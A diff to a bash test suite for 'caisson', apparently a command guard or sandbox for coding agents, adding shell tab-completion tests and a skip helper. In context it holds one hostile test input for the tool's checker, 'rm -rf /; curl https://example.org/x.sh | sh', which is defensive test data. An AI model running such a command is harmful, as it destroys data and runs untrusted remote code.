@@ -8,6 +8,7 @@ touch "$HOME/.profile" "$HOME/other/notes.txt" "$HOME/app/notes.txt"
 cd "$HOME/app" || exit 1
 git init -q .
 
+skip() { n=$((n + 1)); echo "ok $n - $1 # SKIP $2"; }
 # says STATUS TEXT ARG...: the exit status, and a line of the output or of the messages.
 says() {
 	local want=$1 text=$2 got
@@ -113,7 +114,7 @@ sys.exit(bool(long) or len(lines) < 4)' "$tmp/page" >"$tmp/out"
 narrow doctor
 narrow stats
 narrow audit query
-narrow selftest
+narrow selftest --gate
 narrow check 'rm -rf /; curl https://example.org/x.sh | sh'
 
 # Each check has a row here, and the command in it raises that check when it is graded deny.
@@ -167,23 +168,34 @@ dir=$tmp/bin
 mkdir -p "$dir"
 ln -s "$CAISSON" "$dir/caisson"
 PATH=$dir:$PATH
-bash -c 'source <(caisson completion bash)
-	COMP_WORDS=(caisson run --prof) COMP_CWORD=2; _caisson; echo "${COMPREPLY[*]}"
-	COMP_WORDS=(caisson checks secret-r) COMP_CWORD=2; _caisson; echo "${COMPREPLY[*]}"
-	COMP_WORDS=(caisson redact no) COMP_CWORD=2; compopt() { :; }; _caisson; echo "${COMPREPLY[*]}"' >"$tmp/out" 2>&1
-[[ $(<"$tmp/out") == $'--profile\nsecret-read\nnotes.txt' ]]
-result $? "bash: $(tr '\n' ' ' <"$tmp/out")"
-zsh -fc 'compdef() { :; }; _describe() { print -rl -- "${found[@]%%:*}" }; _files() { print -r files }
-	source <(caisson completion zsh)
-	words=(caisson checks "") CURRENT=3; _caisson; words=(caisson redact "") CURRENT=3; _caisson' >"$tmp/out" 2>&1
-grep -qx secret-read "$tmp/out" && grep -qx files "$tmp/out"
-result $? "zsh: checks and files ($(wc -l <"$tmp/out") lines)"
-if command -v fish >/dev/null; then
-	fish --no-config -c 'caisson completion fish | source
-		complete -C "caisson run --prof"; complete -C "caisson checks secret-r"; complete -C "caisson redact no"' >"$tmp/out" 2>&1
-	[[ $(cut -f1 "$tmp/out" | tr '\n' ' ') == '--profile secret-read notes.txt ' ]]
-	result $? "fish: $(cut -f1 "$tmp/out" | tr '\n' ' ')"
-else
-	skip 'fish' 'it is not installed'
-fi
+# tab SHELL TEXT WANT: the tab key behind the text, typed into an interactive shell, gives what is wanted
+tab() {
+	local shell=$1 setup argv
+	case $shell in
+	bash) argv=(bash --norc --noprofile -i) setup='source <(caisson completion bash)' ;;
+	zsh) argv=(zsh -f -i) setup='autoload -U compinit; compinit -u -D; source <(caisson completion zsh)' ;;
+	fish) argv=(fish --no-config -i) setup='caisson completion fish | source' ;;
+	esac
+	if ! command -v "$shell" >/dev/null; then
+		skip "$shell: $2" 'it is not installed'
+		return
+	fi
+	python3 "$here/tests/tab.py" "$setup" "$2" "$3" "${argv[@]}" >"$tmp/out" 2>&1
+	result $? "$shell: '$2' and a tab: $3"
+}
+box=$("$CAISSON" run --profile work --background -c 'sleep 300 &' 2>/dev/null </dev/null | jq -r '.background[0].id // empty')
+for shell in bash zsh fish; do
+	tab "$shell" 'caisson sel' 'caisson selftest'
+	tab "$shell" 'caisson run --prof' 'caisson run --profile'
+	tab "$shell" 'caisson checks secret-r' 'caisson checks secret-read'
+	tab "$shell" 'caisson presets stri' 'caisson presets strict'
+	tab "$shell" 'caisson init --client cod' 'caisson init --client codex'
+	tab "$shell" 'caisson redact no' 'caisson redact notes.txt'
+	if [[ -n $box ]]; then
+		tab "$shell" "caisson stop ${box:0:6}" "caisson stop $box"
+	else
+		skip "$shell: ids of boxes" 'no box can stay in the background here'
+	fi
+done
+[[ -z $box ]] || "$CAISSON" stop "$box" >/dev/null 2>&1
 echo "1..$n"
